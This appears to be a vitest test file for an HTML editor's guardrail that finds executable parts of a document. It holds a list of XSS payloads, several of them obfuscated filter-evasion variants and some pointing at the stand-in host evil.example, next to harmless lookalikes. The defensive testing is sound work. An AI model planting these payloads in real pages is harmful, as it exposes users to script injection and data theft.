import assert from 'node:assert/strict';
import { describe, test } from 'vitest';
import { executableParts } from '#lib/domain/editing/guardrails/executable-parts.ts';
import { parseDocument } from '#lib/domain/editing/parse-document.ts';
import { renderTemplate } from '#lib/domain/templates/render.ts';
import { builtInTemplates } from '#tests/support/built-in-templates.ts';

const treeOf = (body: string) =>
  parseDocument(`<!doctype html><html><head></head><body>${body}</body></html>`).tree;

/** What runs, loads a document or leads away, in markup as an attacker writes it. */
const EXECUTABLE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<script type="module">import "x"</script>',
  '<img src=x onerror=alert(1)>',
  '<p ONCLICK="alert(1)">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,x">x</a>',
  '<a href="data:image/svg+xml,x">x</a>',
  '<img src="data:text/html,x">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="x"></iframe>',
  '<object data="x"></object>',
  '<embed src="x">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input></form>',
  '<button formaction="x">x</button>',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=x">',
  '<link rel="import" href="x">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(x);</style>',
  '<style>@im\\70ort "x";</style>',
  '<style>p{width:expression(alert(1))}</style>',
  '<style>p{width:exp/**/ression(alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background:u\\72l(java\\73 cript:alert(1))">x</p>',
  '<p style="-moz-binding:url(x)">x</p>',
  '<p style="behavior:url(x)">x</p>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  '<svg><foreignObject><iframe src="x"></iframe></foreignObject></svg>',
  '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<a href="x" ping="https://evil.example">x</a>',
];

const HARMLESS = [
  '<p>a &lt;script&gt; in text, javascript:alert(1), onclick=x</p>',
  '<a href="https://a.example/?q=javascript:alert(1)">x</a>',
  '<a href="mailto:a@a.example">x</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="onload=1">',
  '<img src="data:image/svg+xml,%3Csvg/%3E">',
  '<svg><path d="M0 0"/><use href="#a"/></svg>',
  '<style>@page{size:A4} @font-face{font-family:x;src:url(data:font/woff2;base64,AA)} p{color:red}</style>',
  '<p style="background:url(data:image/png;base64,AA)" title="javascript training">x</p>',
  '<form><input value="x"></form>',
  '<noscript>Scripts are off</noscript>',
];

describe('what a document runs', () => {
  for (const markup of EXECUTABLE)
    test(`finds ${JSON.stringify(markup)}`, () =>
      assert.notEqual(executableParts(treeOf(`<p>x</p>${markup}`)).size, 0));

  for (const markup of HARMLESS)
    test(`lets pass ${JSON.stringify(markup)}`, () =>
      assert.deepEqual([...executableParts(treeOf(markup))], []));

  test('finds nothing in what built-in templates make', () => {
    for (const template of builtInTemplates) {
      const { tree } = parseDocument(renderTemplate(template, template.sampleData));
      assert.deepEqual([...executableParts(tree)], [], template.id);
    }
  });

  test('takes markup nested a hundred levels deep', () => {
    const deep = `${'<div>'.repeat(100)}<b onclick=x>x</b>${'</div>'.repeat(100)}`;
    assert.equal(executableParts(treeOf(deep)).size, 1);
  });
});
